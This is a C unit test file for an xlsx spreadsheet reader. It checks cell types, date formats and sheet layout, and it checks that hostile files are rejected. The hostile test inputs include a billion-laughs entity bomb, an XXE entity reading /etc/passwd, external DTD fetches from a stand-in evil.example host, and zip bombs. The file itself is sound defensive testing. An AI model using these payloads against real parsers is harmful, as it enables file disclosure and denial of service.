/* test_xlsx_read.c — unit tests for the xlsx reader (src/base/tabular/xlsx_read.c):
 * hand-made parts in the ways Excel, WPS, LibreOffice and the .NET SDK write them,
 * a file written by openpyxl, and hostile files: DTDs and entities (billion laughs,
 * external entities), zip bombs, sparse sheets, deep nesting, bad UTF-8. */
#include "tabular_test.h"

/* Reads the zip of (name, content) pairs; the rc, with *e filled. */
static rc_t read_parts(arena *a, const char *const *files, size_t nfiles, tab_sheet *s, err *e) {
    buf zip;
    buf_init(&zip, TEST_BUF_MAX);
    make_zip(files, nfiles, &zip);
    err_clear(e);
    rc_t rc = tab_read_xlsx(a, zip.data, zip.len, s, e);
    buf_free(&zip);
    return rc;
}

/* Checks cell `ref` (e.g. "B2") of s: its type and text. */
static void assert_cell(const tab_sheet *s, const char *ref, tab_type type, const char *text) {
    int col = ref[0] - 'A', row = atoi(ref + 1) - 1;
    if (row >= s->nrows || col >= s->ncols)
        fail_msg("%s is outside the %d x %d sheet", ref, s->nrows, s->ncols);
    const tab_cell *c = &s->cells[row][col];
    if (c->type != type || strcmp(c->text, text) != 0)
        fail_msg("%s: got type %d '%s', want type %d '%s'", ref, c->type, c->text, type, text);
}

static void test_xlsx_hand_made(void **state) {
    (void)state;
    static const char *const files[] = {
        "xl/workbook.xml",
        "<?xml version=\"1.0\"?><workbook xmlns:r=\"urn:r\"><sheets>"
        "<sheet name=\"Data\" sheetId=\"7\" r:id=\"rId3\"/></sheets></workbook>",
        "xl/_rels/workbook.xml.rels",
        "<Relationships><Relationship Id=\"rId1\" Target=\"styles.xml\"/>"
        "<Relationship Id=\"rId3\" Type=\"ws\" Target=\"/xl/worksheets/data.xml\"/>"
        "</Relationships>",
        "xl/sharedStrings.xml",
        "<sst><si><t>名称</t></si><si><r><t>A &amp; </t></r><r><rPr/><t xml:space=\"preserve\">B"
        "</t></r><rPh><t>ignored</t></rPh></si><si><t>tab_x0009_here _x0041_</t></si></sst>",
        "xl/worksheets/data.xml",
        "<worksheet><sheetData>"
        "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c><c r=\"C1\" t=\"s\"><v>1</v></c></row>"
        "<row r=\"3\"><c r=\"A3\"><v>12</v></c><c r=\"B3\"><v>1.0E+2</v></c>"
        "<c r=\"C3\" t=\"b\"><v>1</v></c><c r=\"D3\" t=\"inlineStr\"><is><r><t>&#x4E2D;</t></r>"
        "<r><t>&#25991;&lt;&gt;&quot;&apos;</t></r></is></c></row>"
        "<row><c t=\"str\"><f>A1</f><v>x</v></c><c s=\"1\"/><c t=\"s\"><v>2</v></c></row>"
        "</sheetData><x:c r=\"Z99\"><v>outside</v></x:c></worksheet>",
        "xl/worksheets/sheet1.xml",
        "<worksheet><sheetData><row r=\"1\"><c r=\"A1\"><v>wrong sheet</v></c></row>"
        "</sheetData></worksheet>",
    };
    static const char *const want[] = {
        "名称", "",     "A & B",
        "",     "",     "",
        "",     "",     "12",
        "100",  "TRUE", "中文<>\"'", /* 1.0E+2 is the whole number 100 */
        "x",    "",     "tab\there _x0041_",
        "",
    };
    arena *a = arena_new(TEST_ARENA_CAP);
    buf zip;
    buf_init(&zip, TEST_BUF_MAX);
    make_zip(files, COUNT(files) / 2, &zip);
    table t;
    err e;
    err_clear(&e);
    rc_t rc = tabular_read_xlsx(a, zip.data, zip.len, &t, &e);
    if (rc != RC_OK)
        fail_msg("%s", e.message);
    table w = make_table(a, 4, 4, want);
    assert_table_equal(&t, &w);
    buf_free(&zip);
    arena_free(a);
}

static void test_xlsx_hostile(void **state) {
    (void)state;
    static const struct {
        const char *sheet;
        rc_t rc;
        const char *msg;
    } cases[] = {
        {"<worksheet><sheetData><row><c t=\"s\"><v>5</v></c></row></sheetData>", RC_INVALID,
         "cell A1"},
        {"<worksheet><sheetData><row><c r=\"IW1\"><v>1</v></c></row></sheetData>", RC_TOO_LARGE,
         "column 257"},
        {"<worksheet><sheetData><row r=\"1000001\"/></sheetData>", RC_TOO_LARGE, "row 1000001"},
        {"<worksheet><sheetData><row><c r=\"1A\"><v>1</v></c></row></sheetData>", RC_INVALID,
         "'1A'"},
        {"<worksheet><sheetData><row><c><v>&bogus;</v></c></row></sheetData>", RC_INVALID,
         "cell A1"},
        {"<worksheet><sheetData><row><c><v>&#0;</v></c></row></sheetData>", RC_INVALID, "A1"},
        {"<worksheet><sheetData><row><c><v>&#xD800;</v></c></row></sheetData>", RC_INVALID, "A1"},
        {"<worksheet><sheetData><row><c><v>\xC0\xAF</v></c></row></sheetData>", RC_BAD_REQUEST,
         "A1"},
        {"<worksheet><sheetData><row><c><v>12", RC_INVALID, "malformed"},
        {"<worksheet><sheetData><row><c r=\"A1", RC_INVALID, "malformed"},
        {"<!DOCTYPE x [<!ENTITY a \"aaaa\">]><worksheet/>", RC_INVALID, "DOCTYPE"},
    };
    arena *a = arena_new(TEST_ARENA_CAP);
    for (size_t i = 0; i < COUNT(cases); i++) {
        const char *files[] = {"xl/worksheets/sheet1.xml", cases[i].sheet};
        buf zip;
        buf_init(&zip, TEST_BUF_MAX);
        make_zip(files, 1, &zip);
        table t;
        err e;
        err_clear(&e);
        rc_t rc = tabular_read_xlsx(a, zip.data, zip.len, &t, &e);
        if (rc != cases[i].rc || !strstr(e.message, cases[i].msg))
            fail_msg("case %zu: rc %d, message '%s'", i, rc, e.message);
        buf_free(&zip);
    }
    arena_free(a);
}

static void test_xlsx_zip_bomb(void **state) {
    (void)state;
    enum { BOMB = 65 * 1024 * 1024 };
    char *big = malloc(BOMB + 1);
    assert_non_null(big);
    memset(big, ' ', BOMB);
    big[BOMB] = '\0';
    memcpy(big, "<worksheet>", 11);
    const char *files[] = {"xl/worksheets/sheet1.xml", big};
    buf zip;
    buf_init(&zip, TEST_BUF_MAX);
    make_zip(files, 1, &zip);
    free(big);
    assert_true(zip.len < 1024 * 1024);
    arena *a = arena_new(TEST_ARENA_CAP);
    table t;
    err e;
    err_clear(&e);
    assert_int_equal(tabular_read_xlsx(a, zip.data, zip.len, &t, &e), RC_TOO_LARGE);
    assert_non_null(strstr(e.message, "MiB"));
    buf_free(&zip);
    arena_free(a);
}

/* The styles of a workbook as Excel, WPS and LibreOffice write them: built-in and
 * custom date formats, a scientific format (a number), a date-time, a time; and
 * decoys a reader must not mix up (cellStyleXfs, a dxf's numFmt). */
static const char styles_xml[] =
    "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
    "<styleSheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
    "<numFmts count=\"4\"><numFmt numFmtId=\"164\" formatCode=\"YYYY\\-MM\\-DD\"/>"
    "<numFmt numFmtId=\"165\" formatCode=\"yyyy&quot;年&quot;m&quot;月&quot;d&quot;日&quot;\"/>"
    "<numFmt numFmtId=\"166\" formatCode=\"0.00E+00\"/>"
    "<numFmt numFmtId=\"167\" formatCode=\"[$-804]yyyy/m/d h:mm\"/></numFmts>"
    "<cellStyleXfs count=\"1\"><xf numFmtId=\"164\"/></cellStyleXfs>"
    "<cellXfs count=\"8\"><xf numFmtId=\"0\"/><xf numFmtId=\"14\" applyNumberFormat=\"1\"/>"
    "<xf numFmtId=\"164\"/><xf numFmtId=\"165\"/><xf numFmtId=\"166\"/><xf numFmtId=\"167\"/>"
    "<xf numFmtId=\"20\"/><xf numFmtId=\"10\"/></cellXfs>"
    "<dxfs count=\"1\"><dxf><numFmt numFmtId=\"166\" formatCode=\"yyyy\"/></dxf></dxfs>"
    "</styleSheet>";

static const char typed_sheet_xml[] =
    "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
    "<sheetData><row r=\"1\" spans=\"1:14\"><c r=\"A1\" t=\"s\"><v>0</v></c></row>"
    "<row r=\"2\"><c r=\"A2\" s=\"1\"><v>45351</v></c><c r=\"B2\" s=\"2\"><v>45351</v></c>"
    "<c r=\"C2\" s=\"3\"><v>45351</v></c><c r=\"D2\" s=\"4\"><v>12345</v></c>"
    "<c r=\"E2\" s=\"5\"><v>45351.5</v></c><c r=\"F2\" s=\"6\"><v>0.5</v></c>"
    "<c r=\"G2\" s=\"7\"><v>0.125</v></c><c r=\"H2\"><v>9.949999999999999</v></c>"
    "<c r=\"I2\" s=\"99\"><v>45351</v></c><c r=\"J2\" t=\"b\"><v>0</v></c>"
    "<c r=\"K2\" t=\"e\"><f>1/0</f><v>#DIV/0!</v></c>"
    "<c r=\"L2\" t=\"d\"><v>2024-03-01T00:00:00</v></c>"
    "<c r=\"M2\" t=\"d\"><v>2024-03-01T08:30:00</v></c><c r=\"N2\"><v>abc</v></c></row>"
    "<row r=\"5\"><c><v>1</v></c><c r=\"C5\"><v>3</v></c><c><v>-4</v></c></row>"
    "<row r=\"6\"><c r=\"A6\" t=\"s\"><v>1</v></c><c r=\"B6\" s=\"1\"/><c r=\"C6\" s=\"1\"/></row>"
    "</sheetData><mergeCells count=\"1\"><mergeCell ref=\"A6:C6\"/></mergeCells>"
    "<dataValidations count=\"1\"><dataValidation type=\"list\" sqref=\"A2:A9\">"
    "<formula1>\"是,否\"</formula1></dataValidation></dataValidations></worksheet>";

static void test_xlsx_values_and_styles(void **state) {
    (void)state;
    const char *const files[] = {
        "xl/workbook.xml",
        "<workbook xmlns:r=\"urn:r\"><workbookPr defaultThemeVersion=\"124226\"/><sheets>"
        "<sheet name=\"建议\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>",
        "xl/_rels/workbook.xml.rels",
        "<Relationships><Relationship Id=\"rId1\" Type=\"urn:x/worksheet\" "
        "Target=\"worksheets/sheet1.xml\"/><Relationship Id=\"rId2\" "
        "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles\" "
        "Target=\"styles.xml\"/><Relationship Id=\"rId3\" "
        "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
        "sharedStrings\" "
        "Target=\"sharedStrings.xml\"/></Relationships>",
        "xl/styles.xml",
        styles_xml,
        "xl/sharedStrings.xml",
        "<sst count=\"2\" uniqueCount=\"2\"><si><t>标题</t></si><si><t>合并</t></si></sst>",
        "xl/worksheets/sheet1.xml",
        typed_sheet_xml,
    };
    arena *a = arena_new(TEST_ARENA_CAP);
    tab_sheet s;
    err e;
    if (read_parts(a, files, COUNT(files) / 2, &s, &e) != RC_OK)
        fail_msg("%s", e.message);
    assert_string_equal(s.name, "建议");
    assert_int_equal(s.nrows, 6);
    assert_int_equal(s.ncols, 14);
    assert_cell(&s, "A1", TAB_TEXT, "标题");
    assert_cell(&s, "A2", TAB_DATE, "2024-02-29"); /* built-in 14 */
    assert_cell(&s, "B2", TAB_DATE, "2024-02-29"); /* LibreOffice's YYYY\-MM\-DD */
    assert_cell(&s, "C2", TAB_DATE, "2024-02-29"); /* WPS's yyyy"年"m"月"d"日" */
    assert_cell(&s, "D2", TAB_INT, "12345");       /* 0.00E+00 is no date, nor the dxf */
    assert_cell(&s, "E2", TAB_TEXT, "2024-02-29 12:00:00");
    assert_cell(&s, "F2", TAB_TEXT, "12:00:00");
    assert_cell(&s, "G2", TAB_DECIMAL, "0.125");
    assert_cell(&s, "H2", TAB_DECIMAL, "9.95");
    assert_cell(&s, "I2", TAB_INT, "45351"); /* a style that does not exist */
    assert_cell(&s, "J2", TAB_BOOL, "FALSE");
    assert_cell(&s, "K2", TAB_TEXT, "#DIV/0!");
    assert_cell(&s, "L2", TAB_DATE, "2024-03-01");
    assert_cell(&s, "M2", TAB_TEXT, "2024-03-01T08:30:00");
    assert_cell(&s, "N2", TAB_TEXT, "abc");
    assert_cell(&s, "A3", TAB_EMPTY, "");
    assert_cell(&s, "A5", TAB_INT, "1"); /* cells without r follow the last one */
    assert_cell(&s, "B5", TAB_EMPTY, "");
    assert_cell(&s, "C5", TAB_INT, "3");
    assert_cell(&s, "D5", TAB_INT, "-4");
    assert_cell(&s, "A6", TAB_TEXT, "合并"); /* a merged area: its top-left cell */
    assert_cell(&s, "B6", TAB_EMPTY, "");
    assert_int_equal(s.cells[1][0].date, s.cells[1][11].date - 1);
    assert_int_equal(s.cells[1][6].num, 125);
    assert_int_equal(s.cells[1][6].scale, 3);
    assert_int_equal(s.cells[4][3].num, -4);

    /* the 1904 date system (old Mac Excel), and a .NET SDK file with prefixes */
    const char *const mac[] = {
        "xl/workbook.xml",
        "<x:workbook xmlns:x=\"urn:main\" xmlns:r=\"urn:r\"><x:workbookPr date1904=\"true\"/>"
        "<x:sheets><x:sheet name=\"Mac\" sheetId=\"1\" r:id=\"rId1\"/></x:sheets></x:workbook>",
        "xl/_rels/workbook.xml.rels",
        "<Relationships><Relationship Id=\"rId1\" "
        "Target=\"/xl/worksheets/s.xml\"/></Relationships>",
        "xl/styles.xml",
        styles_xml,
        "xl/worksheets/s.xml",
        "<x:worksheet xmlns:x=\"urn:main\"><x:sheetData><x:row><x:c x:s=\"1\"><x:v>43890</x:v>"
        "</x:c><x:c t=\"inlineStr\"><x:is><x:t>内联</x:t></x:is></x:c></x:row></x:sheetData>"
        "</x:worksheet>",
    };
    if (read_parts(a, mac, COUNT(mac) / 2, &s, &e) != RC_OK)
        fail_msg("%s", e.message);
    assert_string_equal(s.name, "Mac");
    assert_cell(&s, "A1", TAB_DATE, "2024-03-01");
    assert_cell(&s, "B1", TAB_TEXT, "内联");
    arena_free(a);
}

/* A workbook written by openpyxl at test time (tabular_fixtures.py make-openpyxl). */
static void test_xlsx_from_openpyxl(void **state) {
    (void)state;
    char path[] = "/tmp/test-openpyxl-XXXXXX.xlsx";
    int fd = mkstemps(path, 5);
    assert_true(fd >= 0);
    close(fd);
    run_fixture("make-openpyxl", path);
    buf data;
    buf_init(&data, TEST_BUF_MAX);
    slurp(path, &data);
    unlink(path);
    arena *a = arena_new(TEST_ARENA_CAP);
    tab_sheet s;
    err e;
    err_clear(&e);
    if (tab_read_xlsx(a, data.data, data.len, &s, &e) != RC_OK)
        fail_msg("%s", e.message);
    assert_string_equal(s.name, "代表名单");
    assert_int_equal(s.nrows, 6);
    assert_int_equal(s.ncols, 7);
    assert_cell(&s, "A1", TAB_TEXT, "姓名");
    assert_cell(&s, "G1", TAB_TEXT, "登记时间");
    assert_cell(&s, "A2", TAB_TEXT, "张伟");
    assert_cell(&s, "B2", TAB_DATE, "1968-05-04");
    assert_cell(&s, "C2", TAB_INT, "12");
    assert_cell(&s, "D2", TAB_DECIMAL, "9.95");
    assert_cell(&s, "E2", TAB_BOOL, "TRUE");
    assert_cell(&s, "F2", TAB_EMPTY, "");
    assert_cell(&s, "G2", TAB_TEXT, "2024-03-01 08:30:00");
    assert_cell(&s, "B3", TAB_DATE, "2000-02-29");
    assert_cell(&s, "C3", TAB_INT, "-3");
    assert_cell(&s, "D3", TAB_DECIMAL, "1234567.89");
    assert_cell(&s, "E3", TAB_BOOL, "FALSE");
    assert_cell(&s, "F3", TAB_TEXT, "多行\n备注");
    assert_cell(&s, "G3", TAB_DATE, "2024-03-01");
    assert_cell(&s, "A4", TAB_EMPTY, "");
    assert_cell(&s, "A5", TAB_TEXT, "稀疏");
    assert_cell(&s, "B5", TAB_DATE, "2024-12-31");
    assert_cell(&s, "G5", TAB_TEXT, "12:00:00");
    assert_cell(&s, "A6", TAB_TEXT, "合并单元格");
    assert_cell(&s, "B6", TAB_EMPTY, "");
    assert_cell(&s, "D6", TAB_EMPTY, ""); /* a formula openpyxl saved without a value */
    assert_cell(&s, "E6", TAB_TEXT, "=not a formula");
    buf_free(&data);
    arena_free(a);
}

/* Expands to a billion "lol"s in a reader that takes DTDs. */
#define LAUGHS                                                                                     \
    "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">"                                 \
    "<!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"                        \
    "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">"              \
    "<!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">"              \
    "<!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\">"              \
    "<!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\">"              \
    "<!ENTITY lol7 \"&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;\">"              \
    "<!ENTITY lol8 \"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;\">"              \
    "<!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;\">]>"

static void test_xlsx_hostile_xml(void **state) {
    (void)state;
    static const char sheet_ok[] = "<worksheet><sheetData><row><c t=\"s\"><v>1</v></c></row>"
                                   "</sheetData></worksheet>";
    static const struct {
        const char *part, *xml;
        rc_t rc;
        const char *msg;
    } cases[] = {
        {"xl/worksheets/sheet1.xml",
         LAUGHS "<worksheet><sheetData><row><c t=\"inlineStr\"><is><t>&lol9;</t></is></c></row>"
                "</sheetData></worksheet>",
         RC_INVALID, "DOCTYPE"},
        {"xl/sharedStrings.xml", LAUGHS "<sst><si><t>&lol9;</t></si></sst>", RC_INVALID,
         "xl/sharedStrings.xml: a DOCTYPE"},
        {"xl/workbook.xml", LAUGHS "<workbook/>", RC_INVALID, "xl/workbook.xml: a DOCTYPE"},
        {"xl/styles.xml", LAUGHS "<styleSheet/>", RC_INVALID, "xl/styles.xml: a DOCTYPE"},
        {"xl/worksheets/sheet1.xml", /* an external entity: a file read into a cell */
         "<!DOCTYPE w [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><worksheet><sheetData><row>"
         "<c t=\"inlineStr\"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>",
         RC_INVALID, "DOCTYPE"},
        {"xl/worksheets/sheet1.xml",
         "<!DOCTYPE worksheet SYSTEM \"http://evil.example/x.dtd\"><worksheet/>", RC_INVALID,
         "DOCTYPE"},
        {"xl/worksheets/sheet1.xml",
         "<!DOCTYPE w [<!ENTITY % p SYSTEM \"http://evil.example/\"> %p;]><worksheet/>", RC_INVALID,
         "DOCTYPE"},
        {"xl/worksheets/sheet1.xml", /* no DTD: an entity is undefined */
         "<worksheet><sheetData><row><c t=\"inlineStr\"><is><t>&xxe;</t></is></c></row>"
         "</sheetData></worksheet>",
         RC_INVALID, "cell A1: malformed XML (undefined entity)"},
        {"xl/sharedStrings.xml", /* a count no reader should trust */
         "<sst count=\"4294967295\" uniqueCount=\"4294967295\"><si><t>甲</t></si></sst>",
         RC_INVALID, "cell A1: shared string index '1' is invalid"},
        {"xl/sharedStrings.xml", "<sst><si><t>\xE5\xB8 x</t></si></sst>", RC_BAD_REQUEST,
         "xl/sharedStrings.xml shared string 0: invalid UTF-8"},
        {"xl/worksheets/sheet1.xml",
         "<worksheet><sheetData><row><c r=\"IV40000\"><v>1</v></c></row></sheetData></worksheet>",
         RC_TOO_LARGE, "40000 rows of 256 columns are more than the 8388608 cells"},
        {"xl/worksheets/sheet1.xml",
         "<worksheet><sheetData><row><c><v>1</v></c><c><v>2</v>"
         "</c></row></sheetData></worksheet><extra/>",
         RC_INVALID, "junk after document element"},
    };
    arena *a = arena_new(TEST_ARENA_CAP);
    for (size_t i = 0; i < COUNT(cases); i++) {
        const char *files[] = {cases[i].part, cases[i].xml, "xl/worksheets/sheet1.xml", sheet_ok};
        size_t n = strcmp(cases[i].part, "xl/worksheets/sheet1.xml") == 0 ? 1 : 2;
        tab_sheet s;
        err e;
        rc_t rc = read_parts(a, files, n, &s, &e);
        if (rc != cases[i].rc || !strstr(e.message, cases[i].msg))
            fail_msg("case %zu: rc %d, message '%s'", i, rc, e.message);
    }
    /* elements nested deeper than a spreadsheet ever does */
    buf deep;
    buf_init(&deep, TEST_BUF_MAX);
    buf_puts(&deep, "<worksheet>");
    for (int i = 0; i < 100000; i++)
        buf_puts(&deep, "<a>");
    const char *files[] = {"xl/worksheets/sheet1.xml", deep.data};
    tab_sheet s;
    err e;
    assert_int_equal(read_parts(a, files, 1, &s, &e), RC_INVALID);
    assert_non_null(strstr(e.message, "nested more than 64 deep"));
    buf_free(&deep);
    arena_free(a);
}

/* Each part under the budget, the parts together over it. */
static void test_xlsx_budget_across_parts(void **state) {
    (void)state;
    enum { PART = 40 * 1024 * 1024 };
    char *sst = malloc(PART + 1), *sheet = malloc(PART + 1);
    assert_non_null(sst);
    assert_non_null(sheet);
    memset(sst, ' ', PART);
    memset(sheet, ' ', PART);
    sst[PART] = sheet[PART] = '\0';
    memcpy(sst, "<sst>", 5);
    memcpy(sst + PART - 6, "</sst>", 6);
    memcpy(sheet, "<worksheet>", 11);
    memcpy(sheet + PART - 12, "</worksheet>", 12);
    const char *files[] = {"xl/sharedStrings.xml", sst, "xl/worksheets/sheet1.xml", sheet};
    arena *a = arena_new(TEST_ARENA_CAP);
    tab_sheet s;
    err e;
    assert_int_equal(read_parts(a, files, 1, &s, &e), RC_INVALID); /* no sheet, but no bomb */
    assert_non_null(strstr(e.message, "no worksheet"));
    assert_int_equal(read_parts(a, files + 2, 1, &s, &e), RC_OK);
    assert_int_equal(s.nrows, 0);
    assert_int_equal(read_parts(a, files, 2, &s, &e), RC_TOO_LARGE);
    assert_non_null(strstr(e.message, "larger than 64 MiB"));
    free(sst);
    free(sheet);
    arena_free(a);
}

/* Multi-byte characters cut by the reader's 16 KiB chunks come through whole. */
static void test_xlsx_chunk_boundaries(void **state) {
    (void)state;
    static const char *const chars[] = {"中", "𠀀", "é"};
    arena *a = arena_new(TEST_ARENA_CAP);
    for (size_t k = 0; k < COUNT(chars); k++) {
        buf text, xml;
        buf_init(&text, TEST_BUF_MAX);
        buf_init(&xml, TEST_BUF_MAX);
        while (text.len < TABULAR_MAX_CELL - 8)
            buf_puts(&text, chars[k]);
        buf_printf(&xml,
                   "<worksheet><sheetData><row><c t=\"inlineStr\"><is><t>%s</t></is></c>"
                   "<c t=\"inlineStr\"><is><t>%s</t></is></c></row></sheetData></worksheet>",
                   text.data, chars[k]);
        const char *files[] = {"xl/worksheets/sheet1.xml", xml.data};
        tab_sheet s;
        err e;
        if (read_parts(a, files, 1, &s, &e) != RC_OK)
            fail_msg("%s: %s", chars[k], e.message);
        assert_string_equal(s.cells[0][0].text, text.data);
        assert_string_equal(s.cells[0][1].text, chars[k]);
        /* twice that is past the cell limit */
        buf_reset(&xml);
        buf_printf(&xml,
                   "<worksheet><sheetData><row><c t=\"inlineStr\"><is><t>%s%s</t></is>"
                   "</c></row></sheetData></worksheet>",
                   text.data, text.data);
        files[1] = xml.data;
        assert_int_equal(read_parts(a, files, 1, &s, &e), RC_TOO_LARGE);
        assert_non_null(strstr(e.message, "cell A1: text longer than 65536 bytes"));
        buf_free(&text);
        buf_free(&xml);
    }
    arena_free(a);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_xlsx_hand_made),
        cmocka_unit_test(test_xlsx_hostile),
        cmocka_unit_test(test_xlsx_zip_bomb),
        cmocka_unit_test(test_xlsx_values_and_styles),
        cmocka_unit_test(test_xlsx_from_openpyxl),
        cmocka_unit_test(test_xlsx_hostile_xml),
        cmocka_unit_test(test_xlsx_budget_across_parts),
        cmocka_unit_test(test_xlsx_chunk_boundaries),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
